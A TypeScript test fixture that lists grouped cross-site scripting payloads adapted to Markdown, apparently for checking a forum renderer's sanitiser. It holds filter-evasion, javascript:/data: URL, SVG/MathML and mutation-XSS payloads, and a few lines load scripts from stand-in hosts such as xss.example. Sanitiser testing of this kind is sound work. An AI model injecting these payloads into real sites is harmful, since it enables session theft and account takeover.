/**
 * Cross-site scripting payloads for the forum's Markdown renderer, written out from the
 * well-known public patterns (OWASP XSS filter evasion cheat sheet, PortSwigger's XSS cheat
 * sheet, HTML5 Security Cheatsheet, published sanitiser/mutation-XSS bypasses), adapted to
 * arrive through Markdown. Every payload calls alert/confirm/prompt (or loads a script) if it
 * ever runs, so the browser test can count executions.
 *
 * Grouped by technique; the groups are exported too so a failure is easy to place.
 */

const TAB = '\t';
const NL = '\n';

export const SCRIPT_TAGS: readonly string[] = [
  String.raw`<script>alert(1)</script>`,
  String.raw`<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>`,
  String.raw`<script src=//xss.example/a.js></script>`,
  String.raw`<scr<script>ipt>alert(1)</scr</script>ipt>`,
  String.raw`<script>alert(String.fromCharCode(88,83,83))</script>`,
  String.raw`<<SCRIPT>alert("XSS");//\<</SCRIPT>`,
  String.raw`<script/xss src="http://xss.example/xss.js"></script>`,
  String.raw`</script><script>alert(1)</script>`,
  String.raw`text before <script>alert(1)</script> text after`,
  String.raw`<script type="module">alert(1)</script>`,
  String.raw`<script>alert(1)`,
  String.raw`<ScRiPt>confirm(1)</sCrIpT>`,
  `<script${TAB}>prompt(1)</script>`,
  `<script${NL}>alert(1)</script${NL}>`,
  String.raw`<script>/*</script><script>*/alert(1)</script>`,
];

export const EVENT_HANDLERS: readonly string[] = [
  String.raw`<img src=x onerror=alert(1)>`,
  String.raw`<img src=x onerror=alert(1)//`,
  String.raw`<img/src=x/onerror=alert(1)>`,
  String.raw`<IMG SRC=# onmouseover="alert('xss')">`,
  String.raw`<img src=1 oNeRrOr=alert(1)>`,
  String.raw`<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;(1)">`,
  String.raw`<img src=x:alert(alt) onerror=eval(src) alt=0>`,
  '<img src=`x` onerror=alert(1)>',
  String.raw`<body onload=alert(1)>`,
  String.raw`<body onpageshow=alert(1)>`,
  String.raw`<svg onload=alert(1)>`,
  String.raw`<svg/onload=alert(1)>`,
  String.raw`<input autofocus onfocus=alert(1)>`,
  String.raw`<select autofocus onfocus=alert(1)>`,
  String.raw`<textarea autofocus onfocus=alert(1)>`,
  String.raw`<keygen autofocus onfocus=alert(1)>`,
  String.raw`<video><source onerror="alert(1)">`,
  String.raw`<audio src=x onerror=alert(1)>`,
  String.raw`<details open ontoggle=alert(1)>`,
  String.raw`<marquee onstart=alert(1)>x</marquee>`,
  String.raw`<div onmouseover="alert(1)">hover me</div>`,
  String.raw`<a onmouseover=alert(1)>x</a>`,
  String.raw`<p onclick=alert(1)>click</p>`,
  String.raw`<button onclick=alert(1)>b</button>`,
  String.raw`<style onload=alert(1)></style>`,
  String.raw`<link rel=stylesheet href=x onload=alert(1)>`,
  String.raw`<frameset onload=alert(1)>`,
  String.raw`<b onmouseover=alert(1)>**bold**</b>`,
  String.raw`<x onclick=alert(1) contenteditable>custom</x>`,
  String.raw`<isindex type=image src=1 onerror=alert(1)>`,
  String.raw`<img src=x onerror&#x3d;alert(1)>`,
  String.raw`<div onpointerover=alert(1) tabindex=1 onfocusin=alert(1)>x</div>`,
  String.raw`<h1 onanimationstart=alert(1) style="animation:x">x</h1>`,
  String.raw`<table onmouseover=alert(1)><tr><td>x</td></tr></table>`,
  String.raw`*<img src=x onerror=alert(1)>*`,
  String.raw`[<img src=x onerror=alert(1)>](https://example.com)`,
  String.raw`# <img src=x onerror=alert(1)>`,
  String.raw`> <img src=x onerror=alert(1)>`,
  String.raw`- <img src=x onerror=alert(1)>`,
  String.raw`- [x] <img src=x onerror=alert(1)>`,
  `| a | b |${NL}|---|---|${NL}| <img src=x onerror=alert(1)> | <svg onload=alert(1)> |`,
];

export const JAVASCRIPT_LINKS: readonly string[] = [
  String.raw`[x](javascript:alert(1))`,
  String.raw`[x](JavaScript:alert(1))`,
  String.raw`[x](JAVASCRIPT:alert(1))`,
  String.raw`[x]( javascript:alert(1) )`,
  String.raw`[x](<javascript:alert(1)>)`,
  String.raw`[x](javascript&#58;alert(1))`,
  String.raw`[x](javascript&colon;alert(1))`,
  String.raw`[x](&#106;avascript:alert(1))`,
  String.raw`[x](&#x6A;avascript:alert(1))`,
  String.raw`[x](&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1))`,
  String.raw`[x](&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3a;alert(1))`,
  String.raw`[x](java&#x09;script:alert(1))`,
  String.raw`[x](java&Tab;script:alert(1))`,
  String.raw`[x](java&NewLine;script:alert(1))`,
  String.raw`[x](jav&#x0A;ascript:alert(1))`,
  String.raw`[x](jav&#x0D;ascript:alert(1))`,
  `[x](java${TAB}script:alert(1))`,
  `[x](\u0001javascript:alert(1))`,
  `[x](\u0000javascript:alert(1))`,
  String.raw`[x](javascript\:alert(1))`,
  String.raw`[x](javascript://%0aalert(1))`,
  String.raw`[x](javascript://example.com/%0Aalert(1))`,
  String.raw`[x](javascript:alert&#40;1&#41;)`,
  String.raw`[x](javascript:alert(document.domain) "title")`,
  String.raw`[x](javascript:alert(1)//https://example.com)`,
  String.raw`[x](%6Aavascript:alert(1))`,
  String.raw`[x](&#x20;javascript:alert(1))`,
  String.raw`[x](&#14;javascript:alert(1))`,
  String.raw`[x](jav&#97;script:alert(1))`,
  '[x](java\u200Bscript:alert(1))',
  '[x](\uFF4A\uFF41\uFF56\uFF41\uFF53\uFF43\uFF52\uFF49\uFF50\uFF54:alert(1))',
  String.raw`[a](javascript:prompt(1))[b](javascript:confirm(1))`,
  String.raw`[[x](javascript:alert(1))](https://example.com)`,
  String.raw`[x](javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>)`,
];

export const AUTOLINKS: readonly string[] = [
  String.raw`<javascript:alert(1)>`,
  String.raw`<JavaScript:alert(1)>`,
  String.raw`<vbscript:msgbox(1)>`,
  String.raw`<data:text/html,<script>alert(1)</script>>`,
  String.raw`<data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>`,
  String.raw`javascript:alert(1)`,
  String.raw`www.example.com/"onmouseover="alert(1)`,
  String.raw`https://example.com/"><script>alert(1)</script>`,
  String.raw`<https://example.com/" onmouseover="alert(1)>`,
  String.raw`<mailto:a@example.com?body=<script>alert(1)</script>>`,
  String.raw`https://example.com/'onmouseover='alert(1)'`,
  String.raw`<https://example.com/&quot;onmouseover=&quot;alert(1)>`,
];

export const REFERENCE_LINKS: readonly string[] = [
  `[x][1]${NL}${NL}[1]: javascript:alert(1)`,
  `[x]${NL}${NL}[x]: JaVaScRiPt:alert(1) "t"`,
  `[x][r]${NL}${NL}[r]: <javascript:alert(1)>`,
  `[x][r]${NL}${NL}[r]: data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `[x][r]${NL}${NL}[r]: vbscript:msgbox(1)`,
  `[x][r]${NL}${NL}[r]: &#106;avascript:alert(1)`,
  `[x][r]${NL}${NL}[r]: https://example.com "a\\" onmouseover=\\"alert(1)"`,
  `![x][img]${NL}${NL}[img]: javascript:alert(1)`,
];

export const OTHER_SCHEMES: readonly string[] = [
  String.raw`[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  String.raw`[x](data:text/html,<script>alert(1)</script>)`,
  String.raw`[x](DATA:text/html,%3Cscript%3Ealert(1)%3C/script%3E)`,
  String.raw`[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
  String.raw`[x](  data:text/html,alert(1))`,
  String.raw`[x](vbscript:msgbox(1))`,
  String.raw`[x](VBScript:msgbox(1))`,
  String.raw`[x](vb&#x73;cript:msgbox(1))`,
  String.raw`[x](livescript:alert(1))`,
  String.raw`[x](file:///etc/passwd)`,
  String.raw`[x](blob:https://example.com/0b9c2f3e)`,
  String.raw`[x](//evil.example/x)`,
  String.raw`[x](\\evil.example/x)`,
  String.raw`[x](/\evil.example/x)`,
  String.raw`[x](https://www.kent.gov.uk@evil.example/)`,
];

export const IMAGES: readonly string[] = [
  String.raw`![x](javascript:alert(1))`,
  String.raw`![x](https://example.com/x.png" onerror="alert(1))`,
  String.raw`![x" onerror="alert(1)](https://example.com/x.png)`,
  String.raw`![x](data:image/svg+xml,<svg onload=alert(1)>)`,
  String.raw`![x](x "title\" onerror=\"alert(1)")`,
  String.raw`![<img src=x onerror=alert(1)>](x)`,
  String.raw`[![x](javascript:alert(1))](javascript:alert(1))`,
  String.raw`![x](https://xss.example/tracker.png)`,
];

export const LINK_TITLES: readonly string[] = [
  String.raw`[x](https://example.com "a\" onmouseover=\"alert(1)")`,
  String.raw`[x](https://example.com 'a\' onmouseover=\'alert(1)')`,
  String.raw`[x](https://example.com (a" onmouseover="alert(1)))`,
  String.raw`[x](https://example.com "&quot; onmouseover=&quot;alert(1)")`,
  String.raw`[x](https://example.com "</a><script>alert(1)</script>")`,
  String.raw`[x](https://example.com"onmouseover="alert(1))`,
  String.raw`[x](https://example.com "&#34; onfocus=&#34;alert(1)&#34; autofocus &#34;")`,
  '[x](https://example.com "`onmouseover=alert(1)`")',
];

export const SVG_AND_MATHML: readonly string[] = [
  String.raw`<svg><script>alert(1)</script></svg>`,
  String.raw`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
  String.raw`<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>XSS</text></a></svg>`,
  String.raw`<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)' /></svg>#x"/></svg>`,
  String.raw`<svg><set attributeName=onmouseover to=alert(1)>`,
  String.raw`<svg><animate attributeName=href values=javascript:alert(1) /><a><text y=20>click</text></a></svg>`,
  String.raw`<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>`,
  String.raw`<svg><style><img src=x onerror=alert(1)></style></svg>`,
  String.raw`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
  String.raw`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  String.raw`<math href="javascript:alert(1)">CLICK</math>`,
  String.raw`<math><maction actiontype="statusline#http://example.com" xlink:href="javascript:alert(1)">CLICK</maction></math>`,
  String.raw`<math><mi><svg><style><img src=x onerror=alert(1)>`,
  String.raw`<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>`,
];

export const EMBEDDING: readonly string[] = [
  String.raw`<iframe src="javascript:alert(1)"></iframe>`,
  String.raw`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  String.raw`<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>`,
  String.raw`<iframe src=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></iframe>`,
  String.raw`<object data="javascript:alert(1)"></object>`,
  String.raw`<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>`,
  String.raw`<embed src="javascript:alert(1)">`,
  String.raw`<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
  String.raw`<frameset><frame src="javascript:alert(1)"></frameset>`,
  String.raw`<applet code="javascript:alert(1)"></applet>`,
  String.raw`<portal src="javascript:alert(1)"></portal>`,
];

export const STYLE: readonly string[] = [
  String.raw`<style>@import 'http://xss.example/xss.css';</style>`,
  String.raw`<style>body{background:url("javascript:alert(1)")}</style>`,
  String.raw`<div style="background-image: url(javascript:alert(1))">x</div>`,
  String.raw`<div style="width: expression(alert(1));">x</div>`,
  String.raw`<p style="x:expr/**/ession(alert(1))">x</p>`,
  String.raw`<link rel="stylesheet" href="javascript:alert(1)">`,
  String.raw`<style>*{x:expression(alert(1))}</style>`,
  String.raw`<div style="behavior: url(xss.htc);">x</div>`,
  String.raw`<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>`,
];

export const DOCUMENT_LEVEL: readonly string[] = [
  String.raw`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  String.raw`<meta http-equiv="refresh" content="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`,
  String.raw`<meta charset="x-imap4-modified-utf7">`,
  String.raw`<base href="javascript:alert(1)//">`,
  String.raw`<base href="https://evil.example/">`,
  String.raw`<form action="javascript:alert(1)"><input type=submit></form>`,
  String.raw`<form><button formaction="javascript:alert(1)">X</button></form>`,
  String.raw`<input type="image" src=x onerror=alert(1)>`,
  String.raw`<form id=test></form><button form=test formaction=javascript:alert(1)>X</button>`,
  String.raw`<isindex action=javascript:alert(1) type=submit>`,
];

export const COMMENTS_AND_CDATA: readonly string[] = [
  String.raw`<!--<img src=x onerror=alert(1)>-->`,
  String.raw`<!-- --!><img src=x onerror=alert(1)>-->`,
  String.raw`<!--><img src=x onerror=alert(1)>-->`,
  String.raw`<!---><img src=x onerror=alert(1)>-->`,
  String.raw`<![CDATA[<img src=x onerror=alert(1)>]]>`,
  String.raw`<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`,
  String.raw`<? echo('<script>alert(1)</script>'); ?>`,
  String.raw`<!DOCTYPE html><script>alert(1)</script>`,
  String.raw`<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>`,
];

export const NESTED_AND_UNCLOSED: readonly string[] = [
  String.raw`<img src=x onerror=alert(1)`,
  String.raw`<a href="javascript:alert(1)">x`,
  String.raw`<<img src=x onerror=alert(1)>>`,
  String.raw`<div><div><img src=x onerror=alert(1)></div>`,
  String.raw`<a href="https://example.com"><img src=x onerror=alert(1)></a>`,
  String.raw`<p><b><i><u><img src=x onerror=alert(1)>`,
  String.raw`<img """><script>alert(1)</script>">`,
  String.raw`<a href=javascript&colon;alert(1)>x</a>`,
  String.raw`<a href="jav&#x09;ascript:alert(1)">x</a>`,
  String.raw`<a href=" &#14;  javascript:alert(1)">x</a>`,
  String.raw`<a href="javascript&#x3A;alert(1)">x</a>`,
  String.raw`<a href="&#1;javascript:alert(1)">x</a>`,
  String.raw`<a/href="javascript:alert(1)">x</a>`,
  String.raw`<a href="https://example.com" onclick="alert(1)">ok</a>`,
];

export const MUTATION_XSS: readonly string[] = [
  String.raw`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  String.raw`<template><img src=x onerror=alert(1)></template>`,
  String.raw`<template><script>alert(1)</script></template>`,
  String.raw`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
  String.raw`<textarea><img src=x onerror=alert(1)></textarea>`,
  String.raw`<title><img src=x onerror=alert(1)></title>`,
  String.raw`<xmp><img src=x onerror=alert(1)></xmp>`,
  String.raw`<noembed><img src=x onerror=alert(1)></noembed>`,
  String.raw`<noframes><img src=x onerror=alert(1)></noframes>`,
  String.raw`<iframe><img src=x onerror=alert(1)></iframe>`,
  String.raw`<listing>&lt;img src=x onerror=alert(1)&gt;</listing>`,
  String.raw`<select><template><style><img src=x onerror=alert(1)>`,
  String.raw`<table><td><style><img src=x onerror=alert(1)></style></td></table>`,
  String.raw`<a title="a</a><img src=x onerror=alert(1)>">x</a>`,
  String.raw`<p id="</p><img src=x onerror=alert(1)>">`,
  String.raw`<svg><p><style><img src=x onerror=alert(1)></style></p></svg>`,
];

export const MARKDOWN_CONTEXTS: readonly string[] = [
  '`<script>alert(1)</script>`',
  '```' + NL + '<script>alert(1)</script>' + NL + '```',
  '```"><script>alert(1)</script>' + NL + 'x' + NL + '```',
  '```js onerror=alert(1)' + NL + 'x' + NL + '```',
  '    <img src=x onerror=alert(1)>',
  String.raw`[x](https://example.com)<script>alert(1)</script>`,
  String.raw`~~<script>alert(1)</script>~~`,
  String.raw`**<img src=x onerror=alert(1)>**`,
  String.raw`\<script>alert(1)\</script>`,
  String.raw`&lt;script&gt;alert(1)&lt;/script&gt;`,
  String.raw`[<script>alert(1)</script>](https://example.com)`,
  `Heading <img src=x onerror=alert(1)>${NL}===`,
  `line one  ${NL}<img src=x onerror=alert(1)>`,
  `> quote${NL}> <script>alert(1)</script>${NL}> [x](javascript:alert(1))`,
  `1. one${NL}2. <iframe src=javascript:alert(1)>${NL}3. [x](vbscript:msgbox(1))`,
  `<div>${NL}${NL}*markdown inside* <img src=x onerror=alert(1)>${NL}${NL}</div>`,
  `<details>${NL}<summary>open</summary>${NL}${NL}<img src=x onerror=alert(1)>${NL}</details>`,
];

/** Every payload, each group above in order. */
export const XSS_PAYLOADS: readonly string[] = [
  ...SCRIPT_TAGS,
  ...EVENT_HANDLERS,
  ...JAVASCRIPT_LINKS,
  ...AUTOLINKS,
  ...REFERENCE_LINKS,
  ...OTHER_SCHEMES,
  ...IMAGES,
  ...LINK_TITLES,
  ...SVG_AND_MATHML,
  ...EMBEDDING,
  ...STYLE,
  ...DOCUMENT_LEVEL,
  ...COMMENTS_AND_CDATA,
  ...NESTED_AND_UNCLOSED,
  ...MUTATION_XSS,
  ...MARKDOWN_CONTEXTS,
];
